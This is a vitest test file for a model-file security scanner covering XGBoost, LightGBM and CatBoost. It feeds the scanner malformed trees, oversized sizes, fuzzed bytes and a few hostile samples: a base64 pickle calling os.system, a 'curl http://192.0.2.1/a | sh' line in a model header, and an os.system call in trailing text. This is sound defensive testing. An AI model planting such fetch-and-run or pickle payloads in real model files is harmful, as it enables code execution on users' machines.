// XGBoost, LightGBM and CatBoost: what is honest, what lies, what is cut.

import {
  assembleCatboost,
  assembleUbjson,
  assembleXgboostBinary,
  jsonOf,
  lightgbmText,
  probeOf,
  RecordingContext,
  xgboostModel,
  xgboostTree,
} from '@sentrascan/testkit';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { scanBytes } from '../../../../testkit/src/scan-bytes.ts';
import { format as catboost } from '../catboost/index.ts';
import { format as lightgbm } from '../lightgbm/index.ts';
import { format as xgboost } from './index.ts';

const BASE64_PICKLE = 'gASMBXBvc2l4jAZzeXN0ZW2TjAdlY2hvIGhphVIu';
const TAIL = Buffer.from('something that hides');

/** One model in the forms that XGBoost reads it in. */
function forms(model: ReturnType<typeof xgboostModel>): readonly (readonly [string, Uint8Array])[] {
  return [
    ['model.json', Buffer.from(jsonOf(model))],
    ['model.ubj', assembleUbjson(model)],
  ];
}

describe('honest models of trees', () => {
  it.each([
    ...forms(xgboostModel()),
    ['model.bin', assembleXgboostBinary({ attributes: [['best_score', '0.5']] })],
    ['model.model', assembleXgboostBinary().subarray(4)],
    [
      'model.xgb',
      Buffer.from(`bs64\t${Buffer.from(assembleXgboostBinary()).subarray(4).toString('base64')}\n`),
    ],
    ['model.txt', Buffer.from(lightgbmText())],
    ['model.txt', Buffer.from(lightgbmText().replaceAll('\n', '\r\n'))],
    ['model.cbm', assembleCatboost()],
  ] as const)('finds nothing in %s', (name, bytes) => {
    expect(scanBytes(bytes, name)).toMatchObject({ findings: [], gaps: [] });
  });

  it('explains every byte', () => {
    for (const [format, bytes] of [
      [xgboost, assembleUbjson(xgboostModel())],
      [xgboost, assembleXgboostBinary()],
      [lightgbm, Buffer.from(lightgbmText())],
      [catboost, assembleCatboost()],
    ] as const) {
      const context = new RecordingContext(bytes);
      expect(format.identify(probeOf(bytes))).toBe('certain');
      format.walk(context);
      expect(context.unexplained()).toEqual([]);
    }
  });
});

const MEMORY = ['format/unsafe-structure', 'medium'] as const;
const EXHAUSTS = ['format/exhausts-resources', 'medium'] as const;

describe('XGBoost', () => {
  it.each([
    ['a child that is none', xgboostTree({ left_children: new Int32Array([7, -1, -1]) }), MEMORY],
    ['a negative child', xgboostTree({ right_children: new Int32Array([-5, -1, -1]) }), MEMORY],
    ['a feature that is none', xgboostTree({ split_indices: new Int32Array([99, 0, 0]) }), MEMORY],
    ['a row that is short', xgboostTree({ split_indices: new Int32Array([0]) }), MEMORY],
    ['a number of nodes below zero', xgboostTree({ tree_param: { num_nodes: '-3' } }), MEMORY],
    ['a circle', xgboostTree({ left_children: new Int32Array([0, -1, -1]) }), EXHAUSTS],
  ])('judges %s', (_, tree, [ruleId, severity]) => {
    for (const [name, bytes] of forms(xgboostModel([tree])))
      expect(scanBytes(bytes, name).findings[0]).toMatchObject({ ruleId, severity });
  });

  it('judges attributes', () => {
    for (const [name, bytes] of forms(xgboostModel(undefined, { attributes: { note: BASE64_PICKLE } })))
      expect(scanBytes(bytes, name).findings[0]).toMatchObject({ ruleId: 'metadata/holds-payload' });
    const binary = assembleXgboostBinary({ attributes: [['note', BASE64_PICKLE]] });
    expect(scanBytes(binary, 'm.bin').findings[0]).toMatchObject({ ruleId: 'metadata/holds-payload' });
  });

  it('judges binary models, and in base64', () => {
    const bad = assembleXgboostBinary({ leftChild: 1000 });
    expect(scanBytes(bad, 'm.model').findings[0]).toMatchObject({ ruleId: MEMORY[0] });
    const encoded = Buffer.from(`bs64\t${Buffer.from(bad).subarray(4).toString('base64')}`);
    expect(scanBytes(encoded, 'm.model').findings[0]).toMatchObject({ ruleId: MEMORY[0] });
    expect(scanBytes(assembleXgboostBinary({ nodes: 0x7fffffff }), 'm.model').findings[0]?.ruleId).toBe(
      MEMORY[0],
    );
  });

  it('tells what follows', () => {
    for (const bytes of [
      Buffer.concat([assembleUbjson(xgboostModel()), TAIL]),
      assembleXgboostBinary({ tail: TAIL }),
    ])
      expect(scanBytes(bytes, 'm.ubj').findings[0]).toMatchObject({
        ruleId: 'format/hides-data',
        severity: 'medium',
      });
  });
});

describe('LightGBM', () => {
  it.each([
    ['a child that is none', lightgbmText({ left_child: '9 -1' }), MEMORY],
    ['a leaf that is none', lightgbmText({ right_child: '-2 -9' }), MEMORY],
    ['a feature that is none', lightgbmText({ split_feature: '0 77' }), MEMORY],
    ['a row that is short', lightgbmText({ leaf_value: '0.1' }), MEMORY],
    ['a negative number of leaves', lightgbmText({ num_leaves: '-1' }), MEMORY],
    ['categories that are none', lightgbmText({ decision_type: '1 2', threshold: '4 0' }), MEMORY],
    ['sizes that lie', lightgbmText({}, { treeSize: 99_999_999 }), MEMORY],
    ['a circle', lightgbmText({ left_child: '0 -1' }), EXHAUSTS],
    [
      'a script in its head',
      lightgbmText({}, { head: 'note=curl http://192.0.2.1/a | sh\n' }),
      ['metadata/holds-code', 'medium'],
    ],
    [
      'a script behind it',
      lightgbmText({}, { tail: 'import os; os.system("id")\n' }),
      ['metadata/holds-code', 'medium'],
    ],
    ['bytes behind it', lightgbmText({}, { tail: '\0\x01\x02 hidden' }), ['format/hides-data', 'medium']],
  ] as const)('judges %s', (_, text, [ruleId, severity]) => {
    const { findings, gaps } = scanBytes(Buffer.from(text), 'model.txt');
    expect(findings).toEqual(expect.arrayContaining([expect.objectContaining({ ruleId, severity })]));
    expect(gaps).toEqual([]);
  });
});

describe('CatBoost', () => {
  it.each([
    ['a core that is larger', assembleCatboost({ coreBytes: 99_999_999 }), MEMORY],
    ['a tree beyond the splits', assembleCatboost({ sizes: [9] }), MEMORY],
    ['leaves that are missing', assembleCatboost({ leaves: 1 }), MEMORY],
    ['bytes behind it', assembleCatboost({ tail: TAIL }), ['format/hides-data', 'medium']],
    [
      'a payload in its texts',
      assembleCatboost({ information: [['x', BASE64_PICKLE]] }),
      ['metadata/holds-payload', 'medium'],
    ],
  ] as const)('judges %s', (_, bytes, [ruleId, severity]) => {
    expect(scanBytes(bytes, 'model.cbm').findings).toEqual(
      expect.arrayContaining([expect.objectContaining({ ruleId, severity })]),
    );
  });
});

describe('damaged models of trees', () => {
  const seeds = [
    [xgboost, assembleUbjson(xgboostModel())],
    [xgboost, assembleXgboostBinary({ attributes: [['a', 'b']] })],
    [catboost, assembleCatboost()],
    [lightgbm, Buffer.from(lightgbmText())],
  ] as const;

  it('makes a gap or a finding of each truncation', () => {
    for (const [format, whole] of seeds.slice(0, 2)) {
      for (let length = 180; length < whole.length; length += 7) {
        const context = new RecordingContext(whole.subarray(0, length));
        format.walk(context);
        expect(context.gaps.length).toBeGreaterThan(0);
      }
    }
  });

  it('never throws', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...seeds),
        fc.nat(),
        fc.nat(255),
        fc.nat(),
        ([format, seed], at, byte, other) => {
          const changed = Uint8Array.from(seed);
          changed[at % seed.length] = byte;
          changed[other % seed.length] = 0xff;
          format.identify(probeOf(changed));
          format.walk(new RecordingContext(changed));
        },
      ),
      { numRuns: 500 },
    );
  });
});

it.each([
  ['below zero', '{L\xff\xff\xff\xff\xff\xff\xff\xfblearner'],
  [
    'that no file has',
    '{L\0\0\0\0\0\0\0\x07learner{L\0\0\0\0\0\0\0\x01a[$d#L\x7f\xff\xff\xff\xff\xff\xff\xff}}',
  ],
])('tells a size %s in UBJSON', (_, text) => {
  const { worst, gaps } = scanBytes(Buffer.from(text, 'latin1'), 'm.ubj');
  expect(worst).toBe('medium');
  expect(gaps).toHaveLength(1);
});
